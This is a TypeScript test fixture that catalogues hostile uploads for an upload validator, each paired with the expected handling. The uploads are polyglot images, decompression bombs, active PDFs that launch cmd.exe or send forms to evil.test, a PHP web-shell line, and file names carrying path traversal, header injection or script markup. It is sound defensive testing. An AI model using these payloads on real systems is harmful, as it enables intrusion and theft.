import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { largestFile } from '#domain/basics/uploading.ts'
import { largestSignature } from '#domain/donors/signing.ts'
import { aPdfWith, objectStream, streamObject } from '#testing/makers/pdfs.ts'
import { aBomb, aJpeg, aPdf, aPng } from '#testing/makers/pictures.ts'
import { anEmptySignature, aSignature } from '#testing/makers/signatures.ts'
import {
  after,
  bytes,
  canary,
  chunk,
  entities,
  gifScript,
  html,
  inFormat,
  jpegSaying,
  packedText,
  pngSaying,
  scriptOfJpeg,
  svg,
  telling,
  withChunks,
  withSegment,
  zip,
} from './hostile-makers.ts'

/** What becomes of it: taken and written anew without what was hidden in it, taken as it is, or refused with this code. */
export type Handling = 'anew' | 'as it is' | { status: number; code: string }

/** The kinds of uploads there are. */
export const uploadKinds = ['picture', 'invoice', 'signature'] as const
export type UploadKind = (typeof uploadKinds)[number]

export type HostileFile = {
  what: string
  /** As its sender calls it; a signature has no name. */
  name: string
  make: () => Promise<Buffer> | Buffer
} & Record<UploadKind, Handling>

const no = (code: string, status = 422): Handling => ({ status, code })
const unreadable = no('wrong-content')
const noSignature = no('not-a-signature')
const tooLarge = no('too-large', 413)
/** Of no use anywhere. */
const nowhere = { picture: unreadable, invoice: unreadable, signature: noSignature }
/** A picture with something about it. */
const anew = { picture: 'anew', invoice: 'anew', signature: noSignature } as const
const notByItsName = (code: string) => ({ picture: no(code), invoice: no(code), signature: noSignature })
/** A PDF is for invoices alone. */
const pdf = (invoice: Handling) => ({ picture: no('wrong-ending'), invoice, signature: noSignature })
const active = pdf(no('active-pdf'))
const half = async (whole: Promise<Buffer> | Buffer) => (await whole).subarray(0, (await whole).length / 2)
const script = `<< /S /JavaScript /JS (${canary}\\(\\)) >>`
const noisy = () =>
  sharp({
    create: {
      ...{ width: 200, height: 200, channels: 3, background: '#888' },
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })

type Line = [what: string, name: string, make: HostileFile['make'], handling: Record<UploadKind, Handling>]

const notPictures: Line[] = [
  ['HTML', 'page.jpg', () => html, nowhere],
  ['HTML behind a mark of its letters', 'page.png', () => after(bytes('\xef\xbb\xbf'), html), nowhere],
  ['an SVG with a script', 'drawing.png', () => svg, nowhere],
  ['an SVG of a million letters', 'drawing.jpg', () => entities, nowhere],
  ['a script', 'app.jpeg', () => Buffer.from(`${canary}()`), nowhere],
  ['a script of a shell', 'run.jpg', () => Buffer.from('#!/bin/sh\nid\n'), nowhere],
  ['a page of PHP', 'a.jpg', () => Buffer.from('<?php system($_GET[0]); ?>'), nowhere],
  ['a program of Windows', 'setup.png', () => after(bytes('MZ\x90\0\x03'), Buffer.alloc(500)), nowhere],
  ['a program of Linux', 'a.jpg', () => after(bytes('\x7fELF\x02\x01\x01'), Buffer.alloc(500)), nowhere],
  ['an archive', 'a.jpg', () => zip(), nowhere],
  ['an archive of 100 MB', 'a.png', () => zip(100), nowhere],
  ['nothing', 'a.jpg', () => Buffer.alloc(0), nowhere],
  ['one byte', 'a.png', () => bytes('\x89'), nowhere],
  ['noise', 'a.jpg', () => Buffer.from(Array.from({ length: 4_000 }, (_, at) => (at * 7919) % 256)), nowhere],
  ['a GIF', 'a.png', () => inFormat('gif'), nowhere],
  ['a WebP', 'a.jpg', () => inFormat('webp'), nowhere],
  ['a TIFF', 'a.jpg', () => inFormat('tiff'), nowhere],
  ['an AVIF', 'a.jpg', () => inFormat('avif'), nowhere],
  ['a bitmap', 'a.png', () => after(bytes('BM'), Buffer.alloc(100)), nowhere],
  ['an icon', 'a.png', () => after(bytes('\0\0\x01\0\x01\0'), Buffer.alloc(100)), nowhere],
  ['a PDF', 'a.jpg', () => aPdf(), nowhere],
]

const twoThings: Line[] = [
  ['a GIF that is a script', 'a.jpg', () => gifScript, nowhere],
  ['a JPEG that is a script', 'a.jpg', scriptOfJpeg, nowhere],
  ['the head of a JPEG and HTML', 'a.jpg', () => after(bytes('\xff\xd8\xff\xe0'), html), nowhere],
  ['the head of a PNG and HTML', 'a.png', () => after(bytes('\x89PNG\r\n\x1a\n'), html), nowhere],
  ['HTML behind a JPEG', 'a.jpg', () => after(aJpeg(), html), anew],
  ['an archive behind a JPEG', 'a.jpg', () => after(aJpeg(), zip()), anew],
  ['HTML behind a PNG', 'a.png', () => after(aPng(), html), anew],
  ['a script in the comment of a JPEG', 'a.jpg', () => withSegment(0xfe, html), anew],
  ['HTML in a text of a PNG', 'a.png', () => withChunks(aPng(), [chunk('tEXt', after0(html))]), anew],
  ['a JPEG before a PDF', 'a.pdf', async () => after(aJpeg(), aPdf()), pdf(unreadable)],
  ['HTML before a PDF', 'a.pdf', () => after(html, aPdf()), pdf(unreadable)],
  ['HTML behind a PDF', 'a.pdf', () => after(aPdf(), html), pdf(unreadable)],
  ['an archive behind a PDF', 'a.pdf', () => after(aPdf(), zip()), pdf(unreadable)],
  [
    'an archive in a PDF',
    'a.pdf',
    () => Buffer.concat([aPdf().subarray(0, -6), zip(), bytes('\n%%EOF\n')]),
    pdf(unreadable),
  ],
  ['a JPEG called a PDF', 'a.pdf', () => aJpeg(), pdf(unreadable)],
  ['HTML called a PDF', 'a.pdf', () => html, pdf(unreadable)],
]

const cut: Line[] = [
  ['half a JPEG', 'a.jpg', () => half(noisy().jpeg().toBuffer()), nowhere],
  ['half a PNG', 'a.png', () => half(noisy().png().toBuffer()), nowhere],
  ['the head of a JPEG', 'a.jpg', async () => (await aJpeg()).subarray(0, 20), nowhere],
  ['half a PDF', 'a.pdf', () => half(aPdf()), pdf(unreadable)],
  ['half a signature', 'a.png', () => half(aSignature()), nowhere],
]

const bombs: Line[] = [
  ['100 megapixels', 'a.png', () => aBomb(100), nowhere],
  ['a PNG that says it has 4 gigapixels', 'a.png', () => pngSaying(65_000, 65_000), nowhere],
  ['a PNG that says it is endless', 'a.png', () => pngSaying(0x7fffffff, 0x7fffffff), nowhere],
  ['a JPEG that says it has 4 gigapixels', 'a.jpg', () => jpegSaying(65_000, 65_000), nowhere],
  ['a text of 200 MB in a PNG', 'a.png', () => withChunks(aPng(), [packedText('zTXt', 200)]), anew],
  ['a profile of 200 MB in a PNG', 'a.png', () => withChunks(aPng(), [packedText('iCCP', 200)]), anew],
  [
    'a PNG of 10,000 parts',
    'a.png',
    () =>
      withChunks(
        aPng(),
        Array.from({ length: 10_000 }, () => chunk('tEXt', bytes('a\0b'))),
      ),
    anew,
  ],
  [
    'a PDF packed beyond all measure',
    'a.pdf',
    () =>
      aPdfWith({
        more: [
          streamObject(
            5,
            '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
            deflateSync(Buffer.alloc(200 * 2 ** 20)),
          ),
        ],
      }),
    pdf(unreadable),
  ],
  [
    'a PDF of 5,001 packed parts',
    'a.pdf',
    () => aPdfWith({ more: Array.from({ length: 5_001 }, () => objectStream(5, ['<< >>'])) }),
    { ...pdf(unreadable), signature: tooLarge },
  ],
  [
    'a PDF without a bottom',
    'a.pdf',
    () => aPdfWith({ more: [bytes(`9 0 obj ${'<<'.repeat(1e5)}`)] }),
    pdf(unreadable),
  ],
  [
    'a PDF of nothing but heads',
    'a.pdf',
    () => aPdfWith({ more: [bytes('1 0 obj %'.repeat(30_000))] }),
    { ...pdf(unreadable), signature: tooLarge },
  ],
]

const whatItTells: Line[] = [
  ['where it was taken', 'a.jpg', telling, anew],
  ['XMP', 'a.jpg', () => withSegment(0xe1, bytes(`http://ns.adobe.com/xap/1.0/\0<x>${canary}</x>`)), anew],
  ['a profile of colours', 'a.jpg', () => withSegment(0xe2, bytes(`ICC_PROFILE\0\x01\x01${canary}`)), anew],
  [
    'IPTC',
    'a.jpg',
    () => withSegment(0xed, bytes(`Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x0d${canary}`)),
    anew,
  ],
  ['Exif in a PNG', 'a.png', () => withChunks(aPng(), [chunk('eXIf', bytes(`MM\0*${canary}`))]), anew],
]

const names: Line[] = [
  ['a path in its name', '../../etc/a.jpg', () => aJpeg(), notByItsName('path-in-name')],
  ['a path of Windows', '..\\a.jpg', () => aJpeg(), notByItsName('path-in-name')],
  ['a slash that only looks like one', '..\u2215a.jpg', () => aJpeg(), notByItsName('path-in-name')],
  ['a line end in its name', 'a\r\nset-cookie: a=b.jpg', () => aJpeg(), notByItsName('path-in-name')],
  ['a zero in its name', 'a.exe\0.jpg', () => aJpeg(), notByItsName('path-in-name')],
  ['a name that is turned around', `${canary}\u202egpj.exe.jpg`, () => aJpeg(), anew],
  ['a name of markup', `<img src=x onerror=${canary}()>.jpg`, () => aJpeg(), anew],
  ['a name with a header in it', `a"; filename="${canary}.html.jpg`, () => aJpeg(), anew],
  ['a path by numbers', `..%2f..%2f${canary}.jpg`, () => aJpeg(), anew],
  ['a name without an end', `${'a'.repeat(252)}.jpg`, () => aJpeg(), notByItsName('invalid-input')],
  ['an ending before', `${canary}.exe.jpg`, () => aJpeg(), anew],
  ['an ending behind', 'a.jpg.exe', () => aJpeg(), notByItsName('wrong-ending')],
  ['an ending and a dot', 'a.jpg.', () => aJpeg(), notByItsName('wrong-ending')],
  ['an ending and a blank', 'a.jpg ', () => aJpeg(), notByItsName('wrong-ending')],
  ['a stream of a file', 'a.jpg::$DATA', () => aJpeg(), notByItsName('wrong-ending')],
  ['an ending alone', '.jpg', () => aJpeg(), notByItsName('wrong-ending')],
  ['an SVG by its name', 'a.svg', () => svg, notByItsName('wrong-ending')],
  ['HTML by its name', 'a.html', () => html, notByItsName('wrong-ending')],
]

const sizes: Line[] = [
  [
    'a byte too many',
    'a.jpg',
    async () => after(aJpeg(), Buffer.alloc(largestFile + 1 - (await aJpeg()).length)),
    { picture: tooLarge, invoice: tooLarge, signature: tooLarge },
  ],
  [
    'as large as may be',
    'a.jpg',
    async () => after(aJpeg(), Buffer.alloc(largestFile - (await aJpeg()).length)),
    { ...anew, signature: tooLarge },
  ],
]

const pdfs: Line[] = [
  ['a script when it opens', 'a.pdf', () => aPdfWith({ catalog: `/OpenAction ${script}` }), active],
  ['a script by its name', 'a.pdf', () => aPdfWith({ catalog: '/Names << /JavaScript 5 0 R >>' }), active],
  ['a script that nothing leads to', 'a.pdf', () => aPdfWith({ more: [script] }), active],
  [
    'a script in letters by number',
    'a.pdf',
    () => aPdfWith({ more: ['<< /#53 /J#61v#61Script >>'] }),
    active,
  ],
  ['a script in a packed object', 'a.pdf', () => aPdfWith({ more: [objectStream(5, [script])] }), active],
  [
    'a script in an older state',
    'a.pdf',
    () => Buffer.concat([aPdfWith({ more: [script] }), aPdfWith().subarray(9)]),
    active,
  ],
  [
    'a program that is started',
    'a.pdf',
    () => aPdfWith({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    active,
  ],
  ['a file inside', 'a.pdf', () => aPdfWith({ catalog: '/Names << /EmbeddedFiles 5 0 R >>' }), active],
  ['what a page does by itself', 'a.pdf', () => aPdfWith({ more: ['<< /AA << /O 9 0 R >> >>'] }), active],
  [
    'a page that is visited',
    'a.pdf',
    () => aPdfWith({ catalog: '/OpenAction << /S /URI /URI (https://evil.test/) >>' }),
    active,
  ],
  [
    'a form that is sent',
    'a.pdf',
    () => aPdfWith({ more: ['<< /S /SubmitForm /F (https://evil.test/) >>'] }),
    active,
  ],
  ['a form of XML', 'a.pdf', () => aPdfWith({ catalog: '/AcroForm << /XFA 5 0 R >>' }), active],
  ['another file', 'a.pdf', () => aPdfWith({ more: ['<< /S /GoToR /F (//evil.test/a.pdf) >>'] }), active],
  ['a film', 'a.pdf', () => aPdfWith({ more: ['<< /Subtype /RichMedia >>'] }), active],
  ['a PDF that is locked', 'a.pdf', () => aPdfWith({ trailer: '/Encrypt 5 0 R' }), pdf(no('locked-pdf'))],
  // decision 31: a reader asks before it follows one
  [
    'a link',
    'a.pdf',
    () => aPdfWith({ more: ['<< /Subtype /Link /A << /S /URI /URI (https://shop.example/) >> >>'] }),
    pdf('as it is'),
  ],
]

const size = { width: 500, height: 200 }
const signed = { ...anew, signature: 'anew' } as const
const signatures: Line[] = [
  ['HTML behind a signature', 'a.png', () => after(aSignature(), html), signed],
  [
    'HTML in a text of a signature',
    'a.png',
    () => withChunks(aSignature(), [chunk('tEXt', after0(html))]),
    signed,
  ],
  ['a signature of another size', 'a.png', () => aSignature({ width: 501, height: 200 }), anew],
  ['a signature on its side', 'a.png', () => aPng({ width: 200, height: 500 }), anew],
  ['a JPEG of the size of a signature', 'a.jpg', () => aJpeg(size), anew],
  ['an empty signature', 'a.png', anEmptySignature, { ...anew, signature: no('not-drawn') }],
  [
    'a signature with a byte too many',
    'a.png',
    async () => after(aSignature(), Buffer.alloc(largestSignature + 1 - (await aSignature()).length)),
    { ...anew, signature: tooLarge },
  ],
]

/** As a text of a PNG has it: its name, a zero, and what it says. */
function after0(text: Buffer): Buffer {
  return Buffer.concat([bytes('Comment\0'), text])
}

export const hostileFiles: readonly HostileFile[] = [
  ...notPictures,
  ...twoThings,
  ...cut,
  ...bombs,
  ...whatItTells,
  ...names,
  ...sizes,
  ...pdfs,
  ...signatures,
].map(([what, name, make, handling]) => ({ what, name, make, ...handling }))
